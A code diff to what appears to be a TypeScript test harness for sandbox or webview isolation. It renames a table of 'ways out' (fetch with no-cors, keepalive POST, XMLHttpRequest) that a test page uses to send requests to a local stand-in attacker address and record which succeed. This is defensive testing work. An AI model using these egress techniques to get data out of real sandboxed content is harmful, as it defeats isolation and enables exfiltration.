@@ -26,7 +26,7 @@ export async function attacker(): Promise<{ origin: string; requests: string[]; 
 }
 
 /** Ways out of a view. Each is an expression in the view; `out(name)` is an address of the attacker. */
-export const ways: { readonly [name: string]: string } = {
+export const waysOut: { readonly [name: string]: string } = {
   fetch: `fetch(out('fetch'), { mode: 'no-cors' })`,
   'fetch keepalive': `fetch(out('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })`,
   xhr: `new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = () => no(Error()); x.open('GET', out('xhr')); x.send() })`,
@@ -109,7 +109,7 @@ const view = (attacker: string): string => `<!doctype html><title>Way out</title
   const ask = (method, params) => new Promise((resolve) => { waiting.set(next, resolve); send({ id: next++, method, params }) })
   async function attack() {
     const results = (window.results = {})
-    const ways = { ${Object.entries(ways).map(([name, code]) => `${JSON.stringify(name)}: () => ${code}`)} }
+    const ways = { ${Object.entries(waysOut).map(([name, code]) => `${JSON.stringify(name)}: () => ${code}`)} }
     for (const [name, act] of Object.entries(ways)) {
       try { results[name] = 'did ' + String(await within(act())) } catch (error) { results[name] = 'failed' }
     }
